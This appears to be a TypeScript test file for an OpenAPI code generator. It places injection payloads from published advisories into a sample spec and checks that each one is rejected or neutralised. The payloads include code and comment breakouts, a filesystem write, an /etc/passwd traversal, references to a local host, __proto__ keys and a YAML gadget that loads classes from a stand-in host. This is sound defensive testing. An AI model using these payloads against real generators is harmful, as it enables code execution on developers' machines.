import { expect, test } from "vitest";
import { skeletonOf } from "../fuzz/judge.ts";
import { edit, filesOf, problemsOf, smallSpec } from "../support/small-spec.ts";

type Change = readonly [from: string, to: string];

/** A text in a place of the small spec. */
type Put = (quoted: string) => readonly Change[];

const description: Put = (text) => [["Removes a member.", text]];
const summary: Put = (text) => [["Removes a member.", `a\n      summary: ${text}`]];
const title: Put = (text) => [["title: Acme", `title: ${text}`]];
const version: Put = (text) => [["version: v1", `version: ${text}`]];
const path: Put = (text) => [["/members/{id}:", `${text.slice(0, -1)}/{id}":`]];
const serverUrl: Put = (text) => [["https://api.acme.example", text]];
const serverDescription: Put = (text) => [
  ["https://api.acme.example", `https://api.acme.example\n    description: ${text}`],
];
const parameter = (rest: string) =>
  `      responses:`.replace("  responses:", `    - ${rest}\n      responses:`);
const parameterName: Put = (text) => [
  ["      responses:", parameter(`{ name: ${text}, in: query, schema: { type: string } }`)],
];
const headerDefault: Put = (text) => [
  [
    "      responses:",
    parameter(`{ name: X-A, in: header, schema: { type: string, default: ${text} } }`),
  ],
];
const pattern: Put = (text) => [
  ["schema: { type: string }", `schema: { type: string, pattern: ${text} }`],
];
/** In the schema of an answer, beside the constant that `absent` looks for. */
const keyword =
  (make: (text: string) => string): Put =>
  (text) => [["{ const: gone }", `{ const: gone }, more: { ${make(text)} }`]];
const property: Put = (text) => [["{ const: gone }", `{ const: gone }, ${text}: { type: string }`]];
const constant: Put = (text) => [
  ["equals: gone", `equals: ${text}`],
  ["const: gone", `const: ${text}`],
];
const responseHeader: Put = (text) => [
  [
    "          description: Removed.",
    `          description: Removed.\n          headers: { ${text}: { schema: { type: string } } }`,
  ],
];
const mediaType: Put = (text) => [
  ["            application/json:", `            ${text}:`],
  [", pointer: /code, equals: gone", ""],
];
const component: Put = (text) => [
  ["components:", `components:\n  schemas: { ${text}: { type: string } }`],
];
const reference: Put = (text) => [["schema: { type: string }", `schema: { $ref: ${text} }`]];
const schemaReference: Put = (text) => keyword((quoted) => `$ref: ${quoted}`)(text);

const template = "$" + "{globalThis.ORVPWN()}";
const taken = "taken";
const onePath = "Expected a path without a query, of characters that need no encoding";
const ownBraces = "Expected each parameter in braces of its own";
const noExtension = "is an extension that nothing reads";

// Published vulnerabilities of generators: where each of them let a document's text become code, a path or
// a request, and what ours makes of the same. Numbers without CVE or GHSA are public issues of the project.
test.each<[advisory: string, put: Put, payload: string, wanted: string]>([
  [
    "CVE-2016-5641 (swagger-codegen): a path",
    path,
    `/a");};};return exports;}));console.log('hacked');(function(){}(this,function(){a=function(){b=function(){new Array("`,
    ownBraces,
  ],
  [
    "CVE-2016-5641 (swagger-codegen): a description",
    description,
    "*/ console.log('hacked'); /*",
    taken,
  ],
  [
    "GHSA-9x4c-63pf-525f (openapi-python-client): a description",
    description,
    'a"""\nimport os; os.system("hacked")\n"""',
    taken,
  ],
  ["GHSA-9x4c-63pf-525f (openapi-python-client): a title", title, "Acme'); hacked(); ('", taken],
  [
    "OpenAPITools/openapi-generator#9809: a path",
    path,
    "/a','GET',pathParams,null,callback)&&console.log('godmode');returnType=('a",
    taken,
  ],
  [
    "swagger-api/swagger-codegen#11309: a path",
    path,
    `/pet/uploadImage'+str(exec('hacked'))+'`,
    taken,
  ],
  [
    "CVE-2026-22785, GHSA-mwr6-3gp8-9jmj (orval): a summary",
    summary,
    "a', async () => { hacked(); }); server.tool('b",
    taken,
  ],
  [
    "GHSA-h526-wf6g-67jv (orval): descriptions of enum values",
    keyword((text) => `enum: [a], x-enum-descriptions: [${text}]`),
    "*/ hacked(); /*",
    noExtension,
  ],
  [
    "CVE-2026-25141 (orval): a comment of signs only",
    keyword((text) => `enum: [a], description: ${text}`),
    "/** a */ }; [][(![]+[])[+[]]]()(); const a = { /* */",
    taken,
  ],
  ["CVE-2026-24132 (orval): a constant", constant, "a'; hacked(); '", taken],
  [
    "CVE-2026-71868, GHSA-3575-w9fc-c2j6 (orval): a default of an enum",
    keyword((text) => `type: string, enum: [${text}], default: ${text}`),
    `v${template}w`,
    taken,
  ],
  [
    "CVE-2026-71871, GHSA-8j6p-r8jg-mxqh (orval): a header's default",
    headerDefault,
    `v${template}w`,
    taken,
  ],
  [
    "CVE-2026-72716, GHSA-p4cg-3328-rvfg (orval): a default",
    keyword((text) => `type: string, default: ${text}`),
    `v${template}w`,
    taken,
  ],
  [
    "orval-labs/orval#3692: a path in a template",
    path,
    `/members/\`+(globalThis.hacked=1)+\``,
    onePath,
  ],
  [
    "orval-labs/orval#3692: a server in a template",
    serverUrl,
    'https://api.x/` + (globalThis.X = require("fs").writeFileSync("/marker","pwned")) + `/v1',
    "Expected an absolute https URL",
  ],
  ["orval-labs/orval#3692: a computed key", property, "']: hacked(), ['a", taken],
  [
    "orval-labs/orval#4005: a media type",
    mediaType,
    "application/json', 'X-Hacked': 'a",
    "Expected a media type",
  ],
  [
    "GHSA-38c3-wv3c-v3xj (swagger-typescript-api): a server",
    serverUrl,
    'https://a.example"; hacked(); "',
    "Expected an absolute https URL",
  ],
  [
    "GHSA-hqj5-cw9f-rx67 (swagger-typescript-api): a server",
    serverUrl,
    "https://a.example/'+hacked()+'",
    taken,
  ],
  [
    "GHSA-5f94-x226-ccpm (swagger-typescript-api): an enum value",
    keyword((text) => `enum: [${text}]`),
    'a", B = (hacked() as any), C = "c',
    taken,
  ],
  [
    "GHSA-w284-33mx-6g9v (swagger-typescript-api): a path",
    path,
    `/a${template}`,
    "The path has `{globalThis.ORVPWN()}`, the operation has no path parameter of that name",
  ],
  [
    "GHSA-x36r-4347-pm5x (swagger-typescript-api): a request while generating",
    reference,
    "http://127.0.0.1:1/hacked.json",
    "Expected a reference inside the document",
  ],
  ["acacode/swagger-typescript-api#1611: a pattern in a comment", pattern, "^a*/$", taken],
  [
    "ferdikoomen/openapi-typescript-codegen#2809: a parameter's name",
    parameterName,
    "a':hacked(),'b",
    "Expected a name that a query takes as it is",
  ],
  [
    "ferdikoomen/openapi-typescript-codegen#2809: a header of an answer",
    responseHeader,
    "X-A'; hacked(); '",
    taken,
  ],
  ["ferdikoomen/openapi-typescript-codegen#2809: the version", version, "1'; hacked(); '", taken],
  [
    "GHSA-hhx9-57xq-r5rw (@hey-api/openapi-ts): a parameter's name",
    parameterName,
    "__proto__",
    "Expected the name on the wire",
  ],
  [
    "CVE-2026-44292, GHSA-fx83-v9x8-x52w (protobufjs): a property",
    property,
    "__proto__",
    "`__proto__` can't be a key",
  ],
  [
    "CVE-2026-41242, GHSA-xq3m-2v4x-88gg (protobufjs): a type",
    keyword((text) => `type: ${text}`),
    "string){};hacked();(function(",
    "type",
  ],
  [
    "CVE-2026-44293, GHSA-66ff-xgx4-vchm (protobufjs): a default of bytes",
    keyword((text) => `type: string, format: byte, default: ${text}`),
    '"+hacked()+"',
    taken,
  ],
  [
    "GHSA-rjwr-m7qx-3fjr (oapi-codegen): a server's description",
    serverDescription,
    "a\nfunc init() { hacked() }\n//",
    taken,
  ],
  [
    "GHSA-xrqw-w576-xgj2 (oapi-codegen): an enum value",
    keyword((text) => `enum: [${text}]`),
    'a"\n)\nfunc init() { hacked() }\nconst (\n b = "',
    taken,
  ],
  ["GHSA-jwgf-6xff-4hvp (oapi-codegen): a path", path, '/a", hacked()); ("', onePath],
  [
    "GHSA-9c2f-gr95-7wqw (oapi-codegen): an import",
    keyword((text) => `x-go-type-import: ${text}`),
    'a"; hacked(); "',
    noExtension,
  ],
  [
    "GHSA-5578-w22f-pfx9 (datamodel-code-generator): an import",
    keyword((text) => `x-python-import: ${text}`),
    "os; hacked()",
    noExtension,
  ],
  [
    "GHSA-5578-w22f-pfx9 (datamodel-code-generator): a type's path",
    keyword((text) => `customTypePath: ${text}`),
    "os; hacked()",
    "`customTypePath` is not supported here yet",
  ],
  [
    "CVE-2026-41134, GHSA-2hx3-vp6r-mg3f (Kiota): a literal",
    keyword((text) => `type: string, default: ${text}`),
    '"; hacked(); "',
    taken,
  ],
  [
    "GHSA-7f3j-j7jj-r3vr (Kiota): a description of an enum",
    keyword((text) => `enum: [a], x-ms-enum: { values: [{ description: ${text} }] }`),
    'a"\nhacked()',
    noExtension,
  ],
  [
    "GHSA-xg2h-5xr2-29jw (Kiota): an interpolation of Ruby",
    keyword((text) => `const: ${text}`),
    "#{hacked()}",
    taken,
  ],
  [
    "GHSA-jqwh-526h-c92j (Kiota): an interpolation of PHP",
    keyword((text) => `const: ${text}`),
    "{$hacked()}",
    taken,
  ],
  ["GHSA-3hrf-2gc2-mx32 (Kiota): the end of a comment's line", description, "a\nhacked();", taken],
  [
    "GHSA-3hrf-2gc2-mx32 (Kiota): another end of a line",
    description,
    "a\u2028hacked();",
    "Expected printable text, found U+2028",
  ],
  ["GHSA-4vv7-jj25-4gh6 (Kiota): a name", component, "A{}hacked();class B", "components"],
  [
    "CVE-2026-59867, GHSA-rg4h-fpcp-2qm8 (Kiota): a reference to a host",
    schemaReference,
    "http://127.0.0.1:1/hacked.json",
    "Expected a reference inside the document",
  ],
  [
    "GHSA-4jwf-m4wg-8p66 (Kiota): a reference to a file",
    schemaReference,
    "../../../../etc/passwd",
    "Expected a reference inside the document",
  ],
  [
    "bcherny/json-schema-to-typescript#166: a description",
    keyword((text) => `type: object, description: ${text}`),
    "oops I did it again */",
    taken,
  ],
  [
    "glideapps/quicktype#2870: a description",
    keyword((text) => `type: object, description: ${text}`),
    'a */ hacked(); /* -} """ hacked()\rhacked()',
    "Expected printable text, found U+000D",
  ],
])("%s", async (_, put, payload, wanted) => {
  const spec = edit(...put(JSON.stringify(payload)));
  const problems = await problemsOf(spec);
  if (wanted === taken) {
    expect(problems).toStrictEqual([]);
    const harmless = edit(
      ...put(JSON.stringify(payload.startsWith("/") ? "/harmless" : "harmless")),
    );
    const plain = (await problemsOf(harmless)).length > 0 ? smallSpec : harmless;
    expect(await skeletonIn(spec)).toStrictEqual({ ...(await skeletonIn(plain)), faults: [] });
  } else {
    expect(problems.join("\n")).toContain(wanted);
    expect(problems[0]).toMatch(/^specs\/acme\.yaml:\d+:\d+ #/);
  }
});

const skeletonIn = async (spec: string) => skeletonOf(Object.fromEntries(await filesOf(spec)));

// A document that is read is made of values; a tag would name what makes them.
test.each([
  [
    "CVE-2017-1000207 (swagger-parser)",
    '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://hacked.example"]]]]',
  ],
  [
    "CVE-2017-1000208 (swagger-codegen)",
    '!<tag:yaml.org,2002:js/function> "function () { hacked() }"',
  ],
])("%s: a tag", async (_, value) => {
  expect((await problemsOf(edit(["title: Acme", `title: ${value}`]))).join("\n")).toContain(
    "Tags are not read",
  );
});

// What is written is named after the spec's file, whose name is one of few.
test.each([
  ["CVE-2024-35219, GHSA-g3hr-p86p-593h (openapi-generator)", "../../hacked"],
  ["GHSA-4rj6-vrwv-wr8m (Kiota)", "/etc/hacked"],
  ["GHSA-4vv7-jj25-4gh6 (Kiota)", "a{}hacked();class-b"],
])("%s: a name of a package", async (_, slug) => {
  expect(await problemsOf(smallSpec, slug)).toStrictEqual([
    expect.stringContaining("Expected a slug in kebab-case"),
  ]);
});
